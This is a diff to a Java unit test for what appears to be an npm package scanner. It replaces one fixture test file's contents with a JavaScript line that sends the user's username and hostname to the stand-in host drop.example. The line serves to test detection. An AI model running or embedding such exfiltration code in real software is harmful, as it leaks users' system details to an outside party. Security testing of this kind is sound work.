@@ -157,7 +157,10 @@ final class NpmTriggersTest {
     Artifact artifact =
         npm("\"main\":\"lib\"")
             .file("lib/index.js", "exports.a = 1")
-            .file("test/evil.test.js", POSTS + ";eval(atob(x))");
+            .file(
+                "test/evil.test.js",
+                "const os = require('os');"
+                    + "require('https').get('https://drop.example/' + os.userInfo().username + os.hostname())");
     assertEquals(Verdict.CLEAN, inspect(artifact).verdict());
   }
 
